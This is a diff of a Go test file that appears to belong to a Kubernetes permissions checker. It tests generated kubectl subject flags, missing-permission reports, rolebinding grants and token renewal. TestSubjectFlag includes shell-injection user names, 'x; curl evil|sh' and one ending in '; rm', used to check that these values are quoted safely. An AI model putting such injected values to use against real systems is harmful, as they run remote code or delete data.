@@ -18,7 +18,7 @@ import (
 func TestPermissionsAreTheShippedOnes(t *testing.T) {
 	t.Parallel()
 
-	asked := func(parts ...part) map[string]bool {
+	asked := func(parts ...*part) map[string]bool {
 		set := map[string]bool{}
 
 		for _, r := range permissions() {
@@ -76,27 +76,26 @@ func addTo(set map[string]bool, groups, resources, verbs []string) {
 	}
 }
 
+func user(name string) *identity {
+	return &identity{Identity: Identity{Name: Driver, From: "--provider-kubeconfig", User: name}}
+}
+
 func TestSubjectFlag(t *testing.T) {
 	t.Parallel()
 
-	require.Equal(t, "--serviceaccount=machines:driver", (&identity{user: "system:serviceaccount:machines:driver"}).subjectFlag())
-	require.Equal(t, "--user=jane", (&identity{user: "jane"}).subjectFlag())
-	require.Equal(t, "--user='x; curl evil|sh'", (&identity{user: "x; curl evil|sh"}).subjectFlag())
-	require.Equal(t, "--serviceaccount='a:b'\\''; rm'", (&identity{user: "system:serviceaccount:a:b'; rm"}).subjectFlag())
-	require.Equal(t, "--user=NAME", (&identity{}).subjectFlag(), "the user name is unknown")
+	require.Equal(t, "--serviceaccount=machines:driver", user("system:serviceaccount:machines:driver").subjectFlag())
+	require.Equal(t, "--user=jane", user("jane").subjectFlag())
+	require.Equal(t, "--user='x; curl evil|sh'", user("x; curl evil|sh").subjectFlag())
+	require.Equal(t, "--serviceaccount='a:b'\\''; rm'", user("system:serviceaccount:a:b'; rm").subjectFlag())
+	require.Equal(t, "--user=NAME", user("").subjectFlag(), "the user name is unknown")
 }
 
 // TestMissingPermissionsAreOneResultPerRole lacks all permissions, as before the Role is applied.
 func TestMissingPermissionsAreOneResultPerRole(t *testing.T) {
 	t.Parallel()
 
-	var missing []missingPermission
-	for _, r := range permissions() {
-		missing = append(missing, missingPermission{permission: r, verbs: r.verbs})
-	}
-
-	c := &checker{namespace: "shoot-machines", driver: &identity{name: Driver, user: "system:serviceaccount:shoot-machines:machine-controller"}}
-	got := c.reportMissing(missing)
+	c := &checker{namespace: "shoot-machines", driver: user("system:serviceaccount:shoot-machines:machine-controller")}
+	got := c.reportMissing(permissions())
 	require.Len(t, got, 2)
 	require.Equal(t, Error, got[0].Level)
 	require.True(t, strings.HasPrefix(got[0].Remedy, "kubectl apply -k kubernetes/provider-namespace"), got[0].Remedy)
@@ -104,21 +103,21 @@ func TestMissingPermissionsAreOneResultPerRole(t *testing.T) {
 	require.Contains(t, got[1].Remedy, "kubectl apply -k kubernetes/evacuation/provider-namespace")
 	require.NotContains(t, got[0].Remedy+got[1].Remedy, "rolebinding", "the shipped ones fit")
 
-	c.namespace, c.driver.user = "others", "jane"
+	c.namespace, c.driver = "others", user("jane")
 	require.Equal(t, "set namespace: others in kubernetes/provider-namespace/kustomization.yaml and run: kubectl apply -k kubernetes/provider-namespace"+
-		" && kubectl --namespace others create rolebinding machine-controller-driver --role=machine-controller --user=jane", c.grant(roles[machines]))
+		" && kubectl --namespace others create rolebinding machine-controller-driver --role=machine-controller --user=jane", c.grant(machineRole))
 
-	optional := c.reportMissing([]missingPermission{{permission: permission{part: diagnosis, resource: "pods"}, verbs: []string{"list"}}})
+	optional := c.reportMissing([]permission{{part: diagnosis, resource: "pods", verbs: []string{"list"}}})
 	require.Equal(t, Warning, optional[0].Level, "machines can be created without it")
 }
 
 func TestRenewal(t *testing.T) {
 	t.Parallel()
 
-	i := &identity{from: "--provider-kubeconfig", user: "system:serviceaccount:machines:driver"}
+	i := user("system:serviceaccount:machines:driver")
 	require.Contains(t, i.renewal(), "kubectl --namespace machines create token driver --duration=720h")
 
-	i.user = "jane"
+	i = user("jane")
 	require.NotContains(t, i.renewal(), "kubectl")
 	require.Contains(t, i.renewal(), "jane")
 }
